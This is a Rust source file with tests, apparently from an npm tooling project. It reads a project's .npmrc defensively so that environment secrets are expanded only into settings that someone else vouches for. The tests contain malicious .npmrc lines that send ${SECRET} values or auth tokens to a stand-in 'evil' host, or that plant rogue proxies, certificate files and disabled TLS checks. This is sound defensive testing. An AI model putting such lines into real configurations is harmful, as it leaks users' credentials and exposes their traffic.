//! A project's own settings, read for somebody who may not trust them: which variables of the environment are put
//! into them, and which of them count at all.
//!
//! Who proposes a change writes its `.npmrc`. With `registry=https://host/${TOKEN}/`, or with a token for a host of
//! theirs, they would be sent whatever the environment of whoever looks at the change holds. With a proxy of theirs and
//! an authority of theirs, or without any check of certificates, they would read along what is shown to registries.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

use url::Host;

use super::{Npmrc, host_and_port, ini, web_address, with_slash};

/// Variables that hold paths, and may stand in settings that are sent nowhere: of files of certificate
/// authorities, above all.
const PATHS: [&str; 10] = [
    "HOME",
    "USERPROFILE",
    "PWD",
    "TMPDIR",
    "TEMP",
    "GITHUB_WORKSPACE",
    "RUNNER_TEMP",
    "CI_PROJECT_DIR",
    "WORKSPACE",
    "BUILD_SOURCESDIRECTORY",
];

/// What vouches for a project's settings.
pub struct Vouchers<'a> {
    /// What the user, the machine and the environment say themselves.
    pub own: &'a Npmrc,
    /// The text of the project's file before a change that is to be judged.
    pub base: Option<&'a str>,
    /// Addresses of proxies in the environment.
    pub proxies: Vec<&'a str>,
    /// The registry of whoever names none; asked for only where it matters.
    pub default_registry: &'a dyn Fn() -> Option<String>,
}

impl fmt::Debug for Vouchers<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Vouchers")
            .field("own", &self.own)
            .finish_non_exhaustive()
    }
}

/// What a setting decides, as far as it matters what is put into it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Where a registry is.
    Registry,
    /// By which way registries are reached, and who is believed to be one.
    Connection,
    /// What is shown to the host that is named in the key.
    Shown,
    /// What is shown to all registries.
    ShownToAll,
    /// Nothing that leaves the machine.
    Kept,
}

impl Kind {
    fn of(key: &str) -> Self {
        match key {
            "registry" => Self::Registry,
            "strict-ssl" | "ca" | "cafile" => Self::Connection,
            _ if is_of_proxies(key) => Self::Connection,
            "cert" | "key" => Self::ShownToAll,
            _ if key.ends_with(":registry") => Self::Registry,
            _ if key.starts_with("//") => Self::Shown,
            _ => Self::Kept,
        }
    }
}

fn is_of_proxies(key: &str) -> bool {
    PROXIES.contains(&key) || matches!(key, "noproxy" | "no-proxy")
}

/// Settings that name proxies.
const PROXIES: [&str; 3] = ["proxy", "https-proxy", "http-proxy"];

impl Npmrc {
    /// Reads the text of a project's own `.npmrc` like [`Self::parse`], and puts variables only into what somebody
    /// else vouches for: lines that `base` has as well; addresses that come out as one that is named there, or by
    /// the user's, the machine's or the environment's own settings; credentials for a host that one of them names,
    /// or for that of the default registry.
    ///
    /// Of what nobody vouches for, addresses stay as they are written, and credentials are left out.
    /// [`Self::withheld`] has the names. A variable that is not set is no secret, and stays as [`Self::parse`] has
    /// it.
    ///
    /// By which way registries are reached and who is believed to be one (proxies, authorities, `strict-ssl`) counts
    /// only where somebody else says the same, or it takes nothing away. [`Self::ignored`] has the rest.
    #[must_use]
    pub fn parse_guarded(
        text: &str,
        env: &BTreeMap<String, String>,
        vouchers: &Vouchers<'_>,
    ) -> Self {
        let vouched = Vouched::of(env, vouchers);
        let paths = env
            .iter()
            .filter(|(name, _)| PATHS.contains(&name.as_str()));
        let paths: BTreeMap<String, String> = paths
            .map(|(name, value)| (name.clone(), value.clone()))
            .collect();
        let mut found = Self::default();
        for (raw_key, raw) in ini::parse(text) {
            let raw: Vec<String> = raw.iter().map(|text| text.trim().to_owned()).collect();
            let key = ini::replace_env(&raw_key, env);
            let values: Vec<String> = raw.iter().map(|text| ini::replace_env(text, env)).collect();
            if Kind::of(&key) == Kind::Connection {
                if vouched.is_of_connection(&raw_key, &raw, &key, &values) {
                    found.values.insert(key, values);
                } else {
                    found.ignored.insert(key);
                }
                continue;
            }
            if Kind::of(&key) == Kind::Registry && vouched.is_laid_bare(&raw_key, &raw, &values) {
                found.ignored.insert(key);
                continue;
            }
            let names = set_in(env, std::iter::once(&raw_key).chain(&raw));
            if names.is_empty() || vouched.is_for(&raw_key, &raw, &values) {
                found.values.insert(key, values);
                continue;
            }
            match Kind::of(&raw_key) {
                Kind::Registry => {
                    found.withheld.insert(raw_key.clone(), names);
                    found.values.insert(raw_key, raw);
                }
                Kind::Shown | Kind::ShownToAll => {
                    found.withheld.insert(raw_key, names);
                }
                Kind::Kept | Kind::Connection => {
                    let values = raw.iter().map(|text| ini::replace_env(text, &paths));
                    found.values.insert(raw_key, values.collect());
                }
            }
        }
        found.with_home(env)
    }

    /// The variables that were not put into a setting, because only a project's own `.npmrc` has it.
    #[must_use]
    pub fn withheld(&self, key: &str) -> &[String] {
        self.withheld
            .get(key)
            .map(Vec::as_slice)
            .unwrap_or_default()
    }

    /// Why the variables of a setting were not put in, in words; nothing where they were.
    #[must_use]
    pub fn why_withheld(&self, key: &str) -> Option<String> {
        let names = self.withheld.get(key)?.join(", ");
        let place = self.place_of(key);
        let place = place.map_or_else(String::new, |place| format!(" ({place})"));
        Some(format!(
            "{names} was not put into {key}{place}: only the project's own .npmrc says this of a registry; name the \
             registry in your own .npmrc or in npm_config_registry, or compare with a commit that has the line \
             (`weir check --base`)"
        ))
    }

    /// The settings of a connection that do not count, because only a project's own `.npmrc` has them; each with the
    /// file, where that is known.
    pub fn ignored(&self) -> impl Iterator<Item = (&str, Option<&str>)> {
        let keys = self.ignored.iter();
        keys.map(|key| (key.as_str(), self.ignored_in.as_deref()))
    }

    /// The same in words; nothing where all count.
    #[must_use]
    pub fn why_ignored(&self) -> Option<String> {
        let keys: Vec<&str> = self.ignored().map(|(key, _)| key).collect();
        let place = self.ignored_in.as_deref();
        let place = place.map_or_else(String::new, |place| format!(" ({place})"));
        (!keys.is_empty()).then(|| {
            format!(
                "{} of the project's own .npmrc{place} does not count here; say it in your own .npmrc or in the \
                 environment, or compare with a commit that has the line (`weir check --base`)",
                keys.join(", ")
            )
        })
    }

    /// Why nothing was shown to the host of an address, where a variable would have had to be.
    #[must_use]
    pub fn withheld_from(&self, url: &str) -> Option<String> {
        let host = host_and_port(&web_address(url)?)?;
        let mut keys = self.withheld.keys();
        let key = keys.find(|key| host_of_key(key).is_some_and(|it| it == host))?;
        self.why_withheld(key)
    }
}

/// The variables in texts that are set, and so would be put in.
fn set_in<'t>(
    env: &BTreeMap<String, String>,
    texts: impl Iterator<Item = &'t String>,
) -> Vec<String> {
    let names: BTreeSet<String> = texts
        .flat_map(|text| ini::expressions(text))
        .filter(|name| env.get(*name).is_some_and(|value| !value.is_empty()))
        .map(str::to_owned)
        .collect();
    names.into_iter().collect()
}

/// The host in `//host/path/:_authToken`, in lower case.
fn host_of_key(key: &str) -> Option<String> {
    let rest = key.strip_prefix("//")?;
    let host = match rest.split_once('/') {
        Some((host, _)) => host,
        // Without a slash, the name of the credential comes right after it.
        None => rest.rsplit_once(':')?.0,
    };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// What is vouched for.
struct Vouched<'a> {
    /// The lines of the file before the change, as written.
    lines: BTreeSet<(String, Vec<String>)>,
    registries: BTreeSet<String>,
    proxies: BTreeSet<String>,
    hosts: BTreeSet<String>,
    /// Settings of a connection, by key.
    connection: BTreeMap<String, Vec<Vec<String>>>,
    default_registry: &'a dyn Fn() -> Option<String>,
}

impl<'a> Vouched<'a> {
    fn of(env: &BTreeMap<String, String>, vouchers: &Vouchers<'a>) -> Self {
        let text = vouchers.base.unwrap_or_default();
        let lines = ini::parse(text).into_iter().map(|(key, values)| {
            let values = values.iter().map(|it| it.trim().to_owned());
            (key, values.collect())
        });
        let before = Npmrc::parse(text, env);
        let mut vouched = Self {
            lines: lines.collect(),
            registries: BTreeSet::new(),
            proxies: vouchers.proxies.iter().map(|it| (*it).to_owned()).collect(),
            hosts: BTreeSet::new(),
            connection: BTreeMap::new(),
            default_registry: vouchers.default_registry,
        };
        for npmrc in [vouchers.own, &before] {
            let scopes = npmrc.scope_registries().map(|(_, registry)| registry);
            let named: Vec<String> = npmrc.registry().into_iter().chain(scopes).collect();
            let of_registries = named
                .iter()
                .filter_map(|it| host_and_port(&web_address(it)?));
            vouched.hosts.extend(of_registries);
            vouched
                .hosts
                .extend(npmrc.values.keys().filter_map(|key| host_of_key(key)));
            vouched.registries.extend(named);
            let proxies = [npmrc.proxy(), npmrc.https_proxy()].into_iter().flatten();
            vouched.proxies.extend(proxies.map(str::to_owned));
            for (key, values) in &npmrc.values {
                if Kind::of(key) == Kind::Connection {
                    let said = vouched.connection.entry(key.clone()).or_default();
                    said.push(values.clone());
                }
            }
        }
        vouched
    }

    /// Whether variables may be put into a line: `raw` as written, `values` with them put in.
    fn is_for(&self, key: &str, raw: &[String], values: &[String]) -> bool {
        if self.lines.contains(&(key.to_owned(), raw.to_vec())) {
            return true;
        }
        if key.contains("${") {
            return false;
        }
        match Kind::of(key) {
            Kind::Registry => values
                .iter()
                .all(|it| self.registries.contains(&with_slash(it))),
            Kind::Shown => host_of_key(key).is_some_and(|host| self.is_host(&host)),
            Kind::ShownToAll | Kind::Kept | Kind::Connection => false,
        }
    }

    /// Whether a setting of a connection counts: somebody else says the same, or it takes nothing away. `key` and
    /// `values` are with variables put in.
    fn is_of_connection(
        &self,
        raw_key: &str,
        raw: &[String],
        key: &str,
        values: &[String],
    ) -> bool {
        if self.lines.contains(&(raw_key.to_owned(), raw.to_vec())) {
            return true;
        }
        let said = self.connection.get(key);
        if said.is_some_and(|said| said.iter().any(|it| it == values)) {
            return true;
        }
        let last = values.last().map(String::as_str);
        let is_empty = matches!(last, None | Some("" | "null" | "false"));
        match key {
            "strict-ssl" => last != Some("false"),
            "ca" | "cafile" => is_empty && said.is_none(),
            _ if PROXIES.contains(&key) => match is_empty {
                true => self.proxies.is_empty(),
                false => last.is_some_and(|it| self.proxies.contains(it)),
            },
            // Without a proxy nothing goes past it.
            _ => self.proxies.is_empty(),
        }
    }

    /// Whether a registry is asked without encryption by an address of which others name the host, and not so: what they
    /// have for it would be shown to whoever is on the way.
    fn is_laid_bare(&self, raw_key: &str, raw: &[String], values: &[String]) -> bool {
        let is_bare = |value: &String| {
            let url = web_address(value).filter(|it| it.scheme() == "http");
            let host = url.as_ref().and_then(host_and_port);
            let stays_here = url.as_ref().is_some_and(|it| match it.host() {
                Some(Host::Domain(name)) => name == "localhost" || name.ends_with(".localhost"),
                Some(Host::Ipv4(address)) => address.is_loopback(),
                Some(Host::Ipv6(address)) => address.is_loopback(),
                None => false,
            });
            host.is_some_and(|it| self.hosts.contains(&it))
                && !stays_here
                && !self.registries.contains(&with_slash(value))
        };
        let is_line = || self.lines.contains(&(raw_key.to_owned(), raw.to_vec()));
        values.iter().any(is_bare) && !is_line()
    }

    fn is_host(&self, host: &str) -> bool {
        self.hosts.contains(host) || {
            let default = (self.default_registry)();
            let default = default.and_then(|it| host_and_port(&web_address(&it)?));
            default.is_some_and(|it| it == host)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn env() -> BTreeMap<String, String> {
        let pairs = [
            ("SECRET", "s3cret"),
            ("WHOLE", "https://named.example.invalid/npm/"),
            ("PROXY_URL", "http://proxy.example.invalid:3128"),
            ("HOME", "/home/user"),
        ];
        let pairs = pairs.iter();
        pairs
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
            .collect()
    }

    fn read(text: &str, own: &str, base: Option<&str>) -> Npmrc {
        let own = Npmrc::parse(own, &env());
        let vouchers = Vouchers {
            own: &own,
            base,
            proxies: vec!["http://proxy.example.invalid:3128"],
            default_registry: &|| Some("https://registry.default.example.invalid/".to_owned()),
        };
        Npmrc::parse_guarded(text, &env(), &vouchers).found_in("app/.npmrc")
    }

    const NAMED: &str = "@named:registry=https://named.example.invalid/npm/";

    #[test]
    fn variables_are_put_only_into_what_somebody_else_vouches_for() {
        for (line, key, value) in [
            // Where nobody is known.
            (
                "registry=https://evil.example.invalid/${SECRET}/",
                "registry",
                Some("https://evil.example.invalid/${SECRET}/"),
            ),
            ("registry=${SECRET}", "registry", Some("${SECRET}")),
            (
                "@s:registry=https://${SECRET}.evil.example.invalid/",
                "@s:registry",
                Some("https://${SECRET}.evil.example.invalid/"),
            ),
            (
                "//evil.example.invalid/:_authToken=${SECRET}",
                "//evil.example.invalid/:_authToken",
                None,
            ),
            (
                "//evil.example.invalid:_authToken=x${SECRET?}",
                "//evil.example.invalid:_authToken",
                None,
            ),
            (
                "//evil.example.invalid/:_password=${SECRET}",
                "//evil.example.invalid/:_password",
                None,
            ),
            (
                "//named.example.invalid.evil.example.invalid/:_auth=${SECRET}",
                "//named.example.invalid.evil.example.invalid/:_auth",
                None,
            ),
            (
                "//${SECRET}.evil.example.invalid/:_authToken=x",
                "//s3cret.evil.example.invalid/:_authToken",
                None,
            ),
            ("proxy=http://evil.example.invalid/${SECRET}", "proxy", None),
            // The host is known, but the address would be shown.
            (
                "registry=https://named.example.invalid/${SECRET}/",
                "registry",
                Some("https://named.example.invalid/${SECRET}/"),
            ),
            ("cert=${SECRET}", "cert", None),
            ("cafile=/x/${SECRET}.pem", "cafile", None),
            (
                "userconfig=/x/${SECRET}.pem",
                "userconfig",
                Some("/x/${SECRET}.pem"),
            ),
            // Near misses.
            (
                "//named.example.invalid/npm/:_authToken=${SECRET}",
                "//named.example.invalid/npm/:_authToken",
                Some("s3cret"),
            ),
            (
                "//registry.default.example.invalid/:_authToken=${SECRET}",
                "//registry.default.example.invalid/:_authToken",
                Some("s3cret"),
            ),
            (
                "registry=${WHOLE}",
                "registry",
                Some("https://named.example.invalid/npm/"),
            ),
            (
                "proxy=${PROXY_URL}",
                "proxy",
                Some("http://proxy.example.invalid:3128"),
            ),
            ("userconfig=${HOME}/rc", "userconfig", Some("/home/user/rc")),
            (
                "registry=https://a.example.invalid/",
                "registry",
                Some("https://a.example.invalid/"),
            ),
            (
                "//a.example.invalid/:_authToken=plain",
                "//a.example.invalid/:_authToken",
                Some("plain"),
            ),
            (
                "registry=https://${UNSET}/",
                "registry",
                Some("https://${UNSET}/"),
            ),
        ] {
            let found = read(line, NAMED, None);
            assert_eq!(found.get(key), value, "{line}");
            let text = format!("{:?} {:?}", found.why_withheld(key), found.values);
            assert!(
                !text.contains("s3cret") || value == Some("s3cret"),
                "{text}"
            );
        }
    }

    #[test]
    fn a_line_that_was_there_before_is_read_as_ever() {
        let line = "registry=https://${SECRET}.example.invalid/\n//${SECRET}.example.invalid/:_authToken=${SECRET}\n";
        let found = read(line, "", Some(line));
        assert_eq!(found, Npmrc::parse(line, &env()).found_in("app/.npmrc"));
        // What the base names may be given a token that it had none for.
        let base = "registry=https://base.example.invalid/\n";
        let now = format!("{base}//base.example.invalid/:_authToken=${{SECRET}}\n");
        let key = "//base.example.invalid/:_authToken";
        assert_eq!(read(&now, "", Some(base)).get(key), Some("s3cret"));
        assert_eq!(read(&now, "", Some("")).get(key), None);
        // Another line of the same setting is another line.
        let moved = "registry=https://evil.example.invalid/${SECRET}/\n";
        let found = read(moved, "", Some(line));
        assert_eq!(found.withheld("registry"), ["SECRET"]);
    }

    #[test]
    fn a_connection_is_made_as_the_user_or_the_base_says() {
        let own = "cafile=/own.pem\nproxy=http://own.example.invalid:1\nstrict-ssl=true\n";
        let token = "//bare.example.invalid/:_authToken=t";
        let before = "ca=before\nhttps-proxy=http://before.example.invalid:1\nstrict-ssl=false\n";
        for (line, own, base, counts) in [
            ("proxy=http://evil.example.invalid:1", "", None, false),
            (
                "https-proxy=http://evil.example.invalid:1",
                own,
                None,
                false,
            ),
            ("http-proxy=http://evil.example.invalid:1", "", None, false),
            ("strict-ssl=false", "", None, false),
            ("strict-ssl=false", own, None, false),
            ("strict${NOBODY?}-ssl=false", "", None, false),
            ("ca[]=evil", "", None, false),
            ("ca=evil", "", Some(before), false),
            ("cafile=./evil.pem", own, None, false),
            ("cafile=", own, None, false),
            ("ca=null", "ca=own", None, false),
            ("proxy=null", own, None, false),
            ("noproxy=registry.example.invalid", own, None, false),
            ("no-proxy=*", own, None, false),
            // Near misses: what others say, or takes nothing away.
            ("strict-ssl=false", "", Some(before), true),
            ("strict-ssl=false", "strict-ssl=false", None, true),
            ("strict-ssl=true", "strict-ssl=false", None, true),
            ("ca=before", "", Some(before), true),
            ("cafile=/own.pem", own, None, true),
            ("proxy=http://own.example.invalid:1", own, None, true),
            ("https-proxy=http://own.example.invalid:1", own, None, true),
            (
                "proxy=http://before.example.invalid:1",
                "",
                Some(before),
                true,
            ),
            ("cafile=", "", None, true),
            ("ignore-scripts=false", own, None, true),
            // A token that others have for the host would go out in the clear.
            ("registry=http://bare.example.invalid/x", token, None, false),
            (
                "@s:registry=http://bare.example.invalid",
                token,
                None,
                false,
            ),
            ("registry=https://bare.example.invalid/x", token, None, true),
            ("registry=http://other.example.invalid/", token, None, true),
            (
                "registry=http://localhost:1/",
                "//localhost:1/:_authToken=t",
                None,
                true,
            ),
            (
                "registry=http://bare.example.invalid/x",
                token,
                Some("registry=http://bare.example.invalid/x"),
                true,
            ),
        ] {
            let found = Npmrc::default().over(read(line, own, base));
            let ignored = found.ignored().count();
            assert_eq!(ignored == 0, counts, "{line} over {own} with {base:?}");
            let raw = line.split(['=', '[', '$']).next().unwrap();
            let is_there = found.values.keys().any(|key| key.starts_with(raw));
            assert_eq!(is_there, counts, "{line}");
            assert_eq!(found.why_ignored().is_none(), counts, "{line}");
        }
        // What the environment says counts for everybody.
        let env = BTreeMap::from([("npm_config_cafile".to_owned(), "/x.pem".to_owned())]);
        let found = Npmrc::from_env(&env).over(read("cafile=/evil.pem", "", None));
        assert_eq!(found.cafile(), Some("/x.pem"));
        assert_eq!(found.why_ignored(), None);
        let said = read(
            "cafile=/evil.pem\nproxy=http://u:pw@evil.example.invalid",
            "",
            None,
        );
        let said = said.why_ignored().unwrap();
        assert!(
            said.starts_with("cafile, proxy of the project's own .npmrc (app/.npmrc)"),
            "{said}"
        );
        assert!(!said.contains("pw"), "{said}");
    }

    #[test]
    fn what_was_not_put_in_is_said_with_the_reason() {
        let text = "//evil.example.invalid:81/:_authToken=${SECRET}\n";
        let merged = Npmrc::default().over(read(text, NAMED, None));
        let said = merged
            .withheld_from("http://evil.example.invalid:81/a")
            .unwrap();
        for part in [
            "SECRET",
            "//evil.example.invalid:81/:_authToken",
            "(app/.npmrc)",
            "own .npmrc",
        ] {
            assert!(said.contains(part), "{said}");
        }
        assert_eq!(merged.withheld_from("http://evil.example.invalid/a"), None);
        // Another layer that has the setting has it for good.
        let own = Npmrc::parse("//evil.example.invalid:81/:_authToken=mine", &env());
        let merged = own.over(merged);
        assert_eq!(
            merged.withheld_from("http://evil.example.invalid:81/a"),
            None
        );
    }
}
